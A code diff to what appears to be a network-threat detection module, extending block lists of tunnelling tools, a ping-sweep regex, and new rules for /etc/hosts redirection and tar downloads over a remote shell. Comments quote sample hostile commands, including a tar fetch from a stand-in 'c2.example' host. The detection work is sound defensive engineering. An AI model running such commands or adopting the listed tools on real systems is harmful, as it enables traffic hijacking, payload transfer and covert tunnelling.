@@ -13,7 +13,7 @@ import { networkRelays } from './reverse-shell.js';
 
 const DOWNLOADERS = ['curl', 'wget', 'fetch', 'aria2c', 'lwp-download', 'lwp-request', 'busybox'];
 /** Programs built to tunnel or proxy traffic out of a network. */
-const TUNNEL_TOOLS = ['chisel', 'revsocks', 'sshuttle', 'ngrok', 'frpc', 'frps', 'ligolo', 'ligolo-ng', 'gost', 'iodine', 'iodined', 'dnscat', 'dnscat2', 'ptunnel', 'ptunnel-ng', 'bore', 'rathole', 'devtunnel', 'pingtunnel', 'icmpsh', 'dns2tcp', 'udp2raw', 'npc', 'nps', 'reGeorg', 'neo-regeorg', 'rpivot'];
+const TUNNEL_TOOLS = ['chisel', 'revsocks', 'sshuttle', 'ngrok', 'frpc', 'frps', 'ligolo', 'ligolo-ng', 'gost', 'iodine', 'iodined', 'dnscat', 'dnscat2', 'ptunnel', 'ptunnel-ng', 'bore', 'rathole', 'devtunnel', 'pingtunnel', 'icmpsh', 'icmpdoor', 'dns2tcp', 'udp2raw', 'npc', 'nps', 'reGeorg', 'neo-regeorg', 'rpivot'];
 /** Packet capture tools; reading a saved capture (`-r`) or listing interfaces is not capturing. */
 const SNIFFERS = ['tcpdump', 'tshark', 'dumpcap', 'ngrep', 'tcpflow', 'termshark', 'netsniff-ng', 'dsniff', 'urlsnarf'];
 const SCANNERS = ['nmap', 'masscan', 'zmap', 'rustscan', 'naabu', 'zgrab', 'zgrab2', 'unicornscan', 'arp-scan', 'netdiscover', 'fping', 'pnscan', 'nbtscan', 'sx'];
@@ -79,7 +79,8 @@ const networkScan: Rule = {
   severity: 'medium',
   techniques: ['T1046', 'T1018'],
   match: (s): Evidence | undefined => {
-    const probe = excerpt(s.text, /\/dev\/(?:tcp|udp)\/[^\s/]+\/\$\{?\w+|\b\d{1,3}\.\d{1,3}\.\d{1,3}\.\$\{?\w+/);
+    // Also a loop over an address range written with braces (`for h in 10.43.0.{1..30}; do ping -c1 $h`).
+    const probe = excerpt(s.text, /\/dev\/(?:tcp|udp)\/[^\s/]+\/\$\{?\w+|\b\d{1,3}\.\d{1,3}\.\d{1,3}\.\$\{?\w+|\bfor\s+\w+\s+in\s+\d{1,3}\.\d{1,3}\.\d{1,3}\.\{\d+\.\.\d+\}/);
     if (probe !== undefined) return { probe };
     // `nc -z` over a port range, several ports, or a range of hosts (`10.42.0.0-254`, a CIDR block): a sweep, not a check.
     const sweep = invocationsOf(s, 'nc', 'ncat', 'netcat').find((inv) => inv.args.some((a) => /^-[a-zA-Z]*z/.test(a))
@@ -261,14 +262,15 @@ const fetchedFromPublicAddress: Rule = {
 
 /** Tunnelling programs that are also everyday tools for exposing a home service: fetched, they are low. */
 const TUNNEL_DOWNLOAD = new RegExp(`/(?:${[...TUNNEL_TOOLS, 'cloudflared', 'zrok', 'pinggy'].join('|')})(?:[-_.][\\w.-]*)?$`, 'i');
-/** `wget https://bin.equinox.io/.../ngrok-stable-linux-amd64.zip`: a tunnelling program brought onto the node (T1105, T1572). */
+/** `wget https://bin.equinox.io/.../ngrok-stable-linux-amd64.zip`, `git clone .../ligolo`: a tunnelling program brought onto the node (T1105, T1572). */
 const tunnelToolFetched: Rule = {
   name: 'tunnel-tool-fetched',
   category: 'suspicious_network',
   severity: 'low',
   techniques: ['T1105', 'T1572'],
   match: (s): Evidence | undefined => {
-    const url = invocationsOf(s, 'curl', 'wget', 'aria2c', 'axel').flatMap((inv) => urlsIn(inv.args.join(' '))).find((u) => TUNNEL_DOWNLOAD.test(u.url.replace(/^\w+:\/\/[^/]+/, '').replace(/[?#].*$/, '')));
+    const url = invocationsOf(s, 'curl', 'wget', 'aria2c', 'axel', 'git').filter((inv) => inv.program !== 'git' || inv.args.includes('clone'))
+      .flatMap((inv) => urlsIn(inv.args.join(' '))).find((u) => TUNNEL_DOWNLOAD.test(u.url.replace(/^\w+:\/\/[^/]+/, '').replace(/[?#].*$/, '').replace(/\.git$/, '')));
     return url ? { url: url.url.slice(0, 160) } : undefined;
   },
 };
@@ -289,6 +291,38 @@ const packageSourceAtAddress: Rule = {
     const adds = writesTo(s, PACKAGE_SOURCE) !== undefined || s.invocations.some((inv) => /^(?:add-apt-repository|apt-add-repository)$/.test(inv.program) || (inv.program === 'zypper' && /^(?:ar|addrepo)$/.test(inv.args[0] ?? '')) || inv.args.includes('--add-repo'));
     const url = adds ? urlsIn(s.text).find((u) => isPublicIp(u.host)) : undefined;
     return url ? { repository: url.url.slice(0, 160) } : undefined;
+  },
+};
+
+/**
+ * `echo '80.94.92.41 registry.k8s.io' >> /etc/hosts`: a name pinned to an internet address the resolver would not give,
+ * sending this node's pulls or API calls to whoever holds it (T1565.002, T1557). Local names point at private addresses.
+ */
+const hostsFileRedirect: Rule = {
+  name: 'hosts-file-redirect',
+  category: 'suspicious_network',
+  severity: 'medium',
+  techniques: ['T1557', 'T1565.002'],
+  match: (s): Evidence | undefined => {
+    if (writesTo(s, /^\/etc\/hosts$/) === undefined) return undefined;
+    const entry = excerpt(s.text, /\b\d{1,3}(?:\.\d{1,3}){3}\s+[a-z0-9-]+(?:\.[a-z0-9-]+)+/i);
+    const address = entry?.split(/\s+/)[0];
+    return entry !== undefined && address !== undefined && isPublicIp(address) ? { entry } : undefined;
+  },
+};
+
+/**
+ * `tar xf u@c2.example:/x.tar --rsh-command=/bin/ssh`: an archive read from another host through a remote shell
+ * (GTFOBins' tar download), in place of an HTTP download.
+ */
+const remoteArchiveRead: Rule = {
+  name: 'archive-read-from-remote-host',
+  category: 'suspicious_network',
+  severity: 'medium',
+  techniques: ['T1105'],
+  match: (s): Evidence | undefined => {
+    const inv = invocationsOf(s, 'tar').find((i) => i.args.some((a) => /^--rsh-command\b|^--rmt-command\b/.test(a)) && i.args.some((a) => remoteCopyHost(a) !== undefined));
+    return inv ? { tool: 'tar', archive: inv.args.find((a) => remoteCopyHost(a) !== undefined) ?? '' } : undefined;
   },
 };
 
@@ -458,5 +492,5 @@ export const SUSPICIOUS_NETWORK_RULES: readonly Rule[] = [
   offensiveTool, packetCapture, untrustedDownloadExecuted, legacyRemoteClient, fetchedFromPublicAddress, rawSocketToPublicAddress,
   bruteForceLogin, spoofedUserAgent,
   netcatCommandRelay, reverseTunnel, networkScan, shellRawSocket, trafficInterception, downloadIntoTemp, untrustedPipeToShell,
-  opensslTransport, whoisChannel, sshpassInline, anonymityNetwork, remoteAgentRegistered, sshToBareAddress, tunnelToolFetched, packageSourceAtAddress,
+  opensslTransport, whoisChannel, sshpassInline, anonymityNetwork, remoteAgentRegistered, sshToBareAddress, tunnelToolFetched, packageSourceAtAddress, hostsFileRedirect, remoteArchiveRead,
 ];
